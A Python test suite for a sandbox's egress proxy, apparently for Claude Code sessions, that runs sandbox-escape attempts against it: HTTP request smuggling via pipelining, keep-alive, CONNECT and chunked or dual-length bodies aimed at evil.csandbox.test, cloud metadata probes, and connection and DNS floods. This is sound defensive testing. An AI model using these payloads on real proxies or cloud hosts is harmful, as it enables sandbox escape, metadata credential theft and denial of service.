"""Every request of a plain HTTP/1 connection is judged, not only the first: on the mapped
host loopback (`--map-host-loopback`, where a proxy of the user's may listen) a pipelined or
keep-alive request, a CONNECT after another request, a CONNECT the server refused, and a
request after a chunked body are each checked; the bytes are checked where they arrive, by a
server on the host's 127.0.0.1 that records every byte each connection brought. Then the
denials before the ranges, the metadata addresses, the slots kept for claude's own hosts
and the resolver's bound on new names."""
import os
import socket
import threading

from test_egress import allowlist

TEST_HOST = os.environ.get("CSANDBOX_TEST_HOST")


class Recorder:
    """A keep-alive HTTP server on the host's 127.0.0.1 that keeps every byte of every
    connection. It answers each read holding a head's end with 200, and a CONNECT with 403
    while keeping the connection open (a proxy that refused the tunnel and reads on)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.conns = []
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            got = bytearray()
            self.conns.append(got)
            threading.Thread(target=self.one, args=(conn, got), daemon=True).start()

    def one(self, conn, got):
        conn.settimeout(5)
        try:
            while True:
                data = conn.recv(65536)
                if not data:
                    break
                got += data
                if data.startswith(b"CONNECT "):
                    conn.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")
                elif b"\r\n\r\n" in data:
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
        except OSError:
            pass
        conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()

    def everything(self):
        return b"\n".join(bytes(c) for c in self.conns)


ATTACKS = r'''
import socket, sys, time
port = int(sys.argv[1])
def conn():
    s = socket.create_connection(("169.254.1.2", port), timeout=5)
    return s
def recv(s):
    try:
        return s.recv(1000)
    except OSError:
        return b""
def head(target, host="127.0.0.1", extra=""):
    return ("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, host, extra)).encode()
which = sys.argv[2]
if which == "pipelined":
    # an allowed request, then in the same write one asking the proxy there for another host
    s = conn()
    s.sendall(head("/pipe-one") + head("http://evil.csandbox.test/pipe-two",
                                       "evil.csandbox.test"))
    print(repr(recv(s)[:15]))
elif which == "keepalive":
    # one request at a time on a kept-alive connection: two allowed, then one for another host
    s = conn()
    for t, h in [("/keep-one", "127.0.0.1"), ("http://a.csandbox.test/keep-two",
                                              "a.csandbox.test"),
                 ("http://evil.csandbox.test/keep-three", "evil.csandbox.test")]:
        s.sendall(head(t, h))
        print(repr(recv(s)[:15]), flush=True)
elif which == "connect":
    # a CONNECT to an allowed host the server refuses (403, connection kept), a request for
    # another host right behind it; then a CONNECT after an allowed request
    s = conn()
    s.sendall(b"CONNECT a.csandbox.test:443 HTTP/1.1\r\nHost: a.csandbox.test:443\r\n\r\n"
              + head("http://evil.csandbox.test/after-connect", "evil.csandbox.test"))
    print(repr(recv(s)[:15]), flush=True)
    time.sleep(0.5)
    s = conn()
    s.sendall(head("/before-connect") +
              b"CONNECT a.csandbox.test:443 HTTP/1.1\r\nHost: second-connect\r\n\r\n")
    print(repr(recv(s)[:15]), flush=True)
elif which == "chunked":
    # a chunked body that holds a request line for another host is body; the requests after
    # it are judged: the allowed one passes, the other not
    fake = b"GET http://evil.csandbox.test/in-body HTTP/1.1\r\nHost: evil.csandbox.test\r\n\r\n"
    body = b"%x;ext=1\r\n%s\r\n0\r\nX-Trailer: t\r\n\r\n" % (len(fake), fake)
    s = conn()
    s.sendall(b"POST /upload HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n\r\n"
              + body + head("/after-body") +
              head("http://evil2.csandbox.test/after-body-two", "evil2.csandbox.test"))
    print(repr(recv(s)[:15]), flush=True)
elif which == "ambiguous":
    # a length and a coding at once: the two ends could split it differently
    s = conn()
    s.sendall(b"POST /smuggle HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" +
              head("http://evil.csandbox.test/smuggled", "evil.csandbox.test"))
    print(repr(recv(s)[:15]), flush=True)
'''


def loopback_attack(csb, tmp_path, which):
    srv = Recorder()
    try:
        script = tmp_path / "a.py"
        script.write_text(ATTACKS)
        log = tmp_path / "egress.log"
        r = csb.run(["--egress", "allowlist", "--allow-host", "a.csandbox.test",
                     "--map-host-loopback", "--egress-log", str(log),
                     "--ro-bind", str(script), "/mnt/a.py", "--", "python3", "/mnt/a.py",
                     str(srv.port), which], timeout=60)
    finally:
        srv.close()
    assert r.returncode == 0, r.stderr
    lines = log.read_text().splitlines() if log.exists() else []
    return r.stdout.splitlines(), srv.everything(), lines


def test_a_pipelined_proxy_request_after_an_allowed_one_never_arrives(csb, tmp_path):
    out, got, log = loopback_attack(csb, tmp_path, "pipelined")
    assert b"GET /pipe-one " in got, got
    assert b"evil" not in got and b"pipe-two" not in got, got
    assert any("name=evil.csandbox.test" in x and "a proxy request for a name not allowed" in x
               for x in log), log


def test_a_keep_alive_request_for_another_host_never_arrives(csb, tmp_path):
    out, got, log = loopback_attack(csb, tmp_path, "keepalive")
    assert out[:2] == ["b'HTTP/1.1 200 OK'"] * 2, out
    assert b"GET /keep-one " in got and b"GET http://a.csandbox.test/keep-two " in got, got
    assert b"keep-three" not in got, got
    assert any("name=evil.csandbox.test" in x for x in log), log


def test_a_refused_connect_and_a_late_connect_carry_nothing_further(csb, tmp_path):
    out, got, log = loopback_attack(csb, tmp_path, "connect")
    assert out[0] == "b'HTTP/1.1 403 Fo'", out  # the server's own answer reaches the client
    assert b"CONNECT a.csandbox.test:443 " in got, got
    assert b"after-connect" not in got and b"evil" not in got, got
    assert b"GET /before-connect " in got and b"second-connect" not in got, got
    assert any("CONNECT or Upgrade after the connection's first request" in x
               for x in log), log


def test_a_chunked_body_is_body_and_the_request_after_it_is_judged(csb, tmp_path):
    out, got, log = loopback_attack(csb, tmp_path, "chunked")
    # the body, request line and all, arrived as it was sent
    assert b"GET http://evil.csandbox.test/in-body HTTP/1.1\r\n" in got, got
    assert b"0\r\nX-Trailer: t\r\n\r\nGET /after-body " in got, got
    assert b"after-body-two" not in got and b"evil2" not in got, got
    assert any("name=evil2.csandbox.test" in x for x in log), log
    assert not any("in-body" in x or "name=evil.csandbox.test" in x for x in log), log


def test_a_request_with_length_and_chunked_coding_is_refused_whole(csb, tmp_path):
    out, got, log = loopback_attack(csb, tmp_path, "ambiguous")
    assert b"smuggle" not in got, got
    assert any("both Content-Length and Transfer-Encoding" in x for x in log), log


# TLS with server name `name` to `addr`:8443, and HTTP with Host `name` to `addr`:8080;
# prints what the test host answered ("-" for nothing): its TLS answer names the server
# name it was sent.
TO_RANGE = r"""
import socket, ssl, sys
name, addr = sys.argv[1], sys.argv[2]
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    with socket.create_connection((addr, 8443), timeout=5) as s:
        with ctx.wrap_socket(s, server_hostname=name) as t:
            t.sendall(b"GET / HTTP/1.0\r\n\r\n")
            print(t.recv(200).split(b"\r\n\r\n")[-1].decode().strip() or "-")
except (OSError, ssl.SSLError):
    print("-")
try:
    with socket.create_connection((addr, 8080), timeout=5) as s:
        s.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % name).encode())
        print(s.recv(200).split(b"\r\n\r\n")[-1].decode().strip() or "-")
except OSError:
    print("-")
"""


def denying(csb, tmp_path, cmd):
    """cmd with TEST_HOST's address allowed and b.csandbox.test denied; (result, log)."""
    log = tmp_path / "egress.log"
    r = csb.run(["--egress", "allowlist", "--allow-host", f"{TEST_HOST}/32", "--deny-host",
                 "b.csandbox.test", "--egress-log", str(log), "--", *cmd], timeout=60)
    return r, log.read_text().splitlines() if log.exists() else []


def test_a_denied_name_is_refused_inside_an_allowed_range(csb, tmp_path):
    r, log = denying(csb, tmp_path, ["python3", "-c", TO_RANGE, "a.csandbox.test", TEST_HOST])
    assert r.stdout.split("\n")[:2] == ["tls a.csandbox.test", "csandbox-testhost"], r.stdout
    r, log = denying(csb, tmp_path, ["python3", "-c", TO_RANGE, "b.csandbox.test", TEST_HOST])
    assert r.stdout.split("\n")[:2] == ["-", "-"], (r.stdout, r.stderr)
    assert sum("name=b.csandbox.test" in x and "a denied name" in x for x in log) == 2, log


CONNECT_TO = r"""
import socket, sys
for addr in sys.argv[1:]:
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    s = socket.socket(fam)
    s.settimeout(5)
    try:
        s.connect((addr, 80))
        s.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
        print(addr, repr(s.recv(100)[:12]))
    except OSError as e:
        print(addr, "error")
"""


def test_metadata_addresses_are_refused_even_in_an_allowed_range(csb, tmp_path):
    """The ranges allow them; the proxy refuses before it connects (nothing listens there in
    the test network, so the refusal line is the proof)."""
    targets = ["fd00:ec2::254", "fd20:ce::254", "100.100.100.200", "168.63.129.16"]
    r, log = allowlist(csb, tmp_path, ["fd00::/8", "100.100.100.0/24", "168.63.0.0/16"],
                       ["python3", "-c", CONNECT_TO, *targets])
    assert r.returncode == 0, r.stderr
    for t in targets:
        assert any(f"addr={t} port=80 refused:" in x and "metadata" in x for x in log), (t, log)


# A flood of connections that send nothing (each held by the proxy until its first bytes
# come, up to 10 s), more than every slot; then a connection naming one of claude's own
# hosts, and one naming an allowed host of the session's.
FLOOD = r"""
import socket, ssl, sys, time
addr = sys.argv[1]
held = []
for i in range(300):
    s = socket.socket()
    s.settimeout(5)
    s.connect((addr, 443))
    held.append(s)
time.sleep(0.5)
def hello(name):
    ctx = ssl.create_default_context()
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(inc, out, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    s = socket.create_connection((addr, 443), timeout=5)
    s.sendall(out.read())
    try:
        s.recv(10)
    except OSError:
        pass
for name in ("api.anthropic.com", "ok.csandbox.test"):
    hello(name)
    time.sleep(0.5)
print("done", flush=True)
"""


def test_a_flood_of_silent_connections_leaves_a_slot_for_claudes_own_host(csb, tmp_path):
    """claude's API (api.anthropic.com:443, built in) gets a slot a session's flood cannot
    hold: its connection is judged (and, as the test network has no such host, refused for
    its address), while the session's own allowed name gets no slot. The proxy's judgement
    is the receiving end here: nothing in the test network answers for claude's hosts."""
    r, log = allowlist(csb, tmp_path, ["ok.csandbox.test"],
                       ["python3", "-c", FLOOD, TEST_HOST], timeout=90)
    assert r.stdout.strip() == "done", (r.stdout, r.stderr)
    claude = [x for x in log if "name=api.anthropic.com" in x]
    ours = [x for x in log if "name=ok.csandbox.test" in x]
    assert claude and not any("too many connections" in x for x in claude), claude
    assert "resolver gave" in claude[0], claude
    assert ours and "too many connections" in ours[0], ours
    assert any("too many connections" in x for x in log if "name=-" in x), log


# 300 queries for names no one asked for before, under an allowed wildcard, as fast as they
# go; then one for a name answered before the flood. Prints the answers' codes counted
# (NOERROR, SERVFAIL).
DNS_FLOOD = r"""
import socket, struct, collections
def query(qid, name):
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return q + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
def ask(qid, name):
    s.sendto(query(qid, name), ("169.254.1.3", 53))
    while True:
        a = s.recv(600)
        if struct.unpack("!H", a[:2])[0] == qid:
            return a[3] & 15, struct.unpack("!H", a[6:8])[0]
print("before", *ask(1, "ok.csandbox.test"))
codes = collections.Counter()
def drain(wait):
    s.settimeout(wait)
    try:
        while sum(codes.values()) < 300:
            codes[s.recv(600)[3] & 15] += 1
            s.settimeout(0 if not wait else wait)
    except (BlockingIOError, socket.timeout):
        pass
for i in range(300):
    s.sendto(query(1000 + i, "n%d.csandbox.test" % i), ("169.254.1.3", 53))
    if i == 250:  # one of claude's own hosts, asked while the bucket is empty
        s.sendto(query(999, "claude.ai"), ("169.254.1.3", 53))
    drain(0)
drain(5)  # some may be lost on the way (UDP): counted by what came
s.settimeout(20)
print("flood", codes[0], codes[2])
print("after", *ask(2, "ok.csandbox.test"))
"""


def test_a_flood_of_new_names_under_a_wildcard_is_bounded_and_logged(csb, tmp_path):
    r, log = allowlist(csb, tmp_path, ["*.csandbox.test"], ["python3", "-c", DNS_FLOOD],
                       timeout=120)
    assert r.returncode == 0, r.stderr
    out = {x.split()[0]: x.split()[1:] for x in r.stdout.splitlines()}
    assert out["before"] == ["0", "1"] and out["after"] == ["0", "1"], r.stdout
    answered, servfail = int(out["flood"][0]), int(out["flood"][1])
    # answered: the bucket's burst and what it refilled while the flood went on
    assert servfail > 0 and answered > 0, r.stdout
    bounded = [x for x in log if "too many new names" in x]
    assert bounded and all(" dns name=n" in x for x in bounded), log[:5]
    # claude's own hosts never wait for the bucket the flood emptied
    assert not any("name=claude.ai" in x for x in bounded), bounded


def test_an_allowlist_run_turns_claudes_telemetry_off_and_does_not_allow_its_intake(tmp_path):
    """claude's telemetry intake accepts anyone's key: not in the built-in list, and claude
    is told not to try (its own switches, in the session's environment)."""
    from test_run import Profiles

    profiles = Profiles(tmp_path)
    profiles.add()
    switches = ("CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC", "DISABLE_TELEMETRY",
                "DISABLE_ERROR_REPORTING")
    env = profiles.env(CLAUDE_PROFILE_SANDBOX_EGRESS="allowlist")
    sandbox = profiles.plan(env=env)
    sandbox = sandbox.get("sandbox", sandbox)
    hosts = [h["host"] for h in sandbox["egress"]["allow"]]
    assert "api.anthropic.com:443" in hosts and not any("datadoghq" in h for h in hosts), hosts
    inside = profiles.report(env=env)["env"]
    assert all(inside.get(k) == "1" for k in switches), inside
    inside = profiles.report()["env"]
    assert not any(k in inside for k in switches), inside


PROXY_REQUESTS = r"""
import socket, sys
addr = sys.argv[1]
for req in (b"CONNECT evil.csandbox.test:9991 HTTP/1.1\r\nHost: evil.csandbox.test:9991\r\n\r\n",
            b"GET http://evil.csandbox.test:9991/abs HTTP/1.1\r\nHost: evil.csandbox.test\r\n\r\n",
            b"GET / HTTP/1.1\r\nHost: ok.csandbox.test\r\n\r\n"):
    s = socket.create_connection((addr, 8080), timeout=5)
    s.sendall(req)
    try:
        got = s.recv(100)
    except OSError:
        got = b""
    print(repr(got[:12]))
"""


def test_a_proxy_request_to_an_allowed_range_must_name_an_allowed_host(csb, tmp_path):
    """A forward proxy listening in an allowed range would connect the session anywhere: a
    CONNECT or an absolute URI there must name an allowed host, as on the mapped loopback
    (the test host answers any request; a refused one gets nothing back, never reaching it);
    an origin-form request to the range passes."""
    r, log = allowlist(csb, tmp_path, [TEST_HOST + "/32", "ok.csandbox.test"],
                       ["python3", "-c", PROXY_REQUESTS, TEST_HOST])
    assert r.returncode == 0, r.stderr
    out = r.stdout.splitlines()
    assert out[0] == "b''" and out[1] == "b''", r.stdout
    assert out[2].startswith("b'HTTP/1."), r.stdout
    assert sum("name=evil.csandbox.test" in x and "a proxy request for a name not allowed" in x
               for x in log) == 2, log
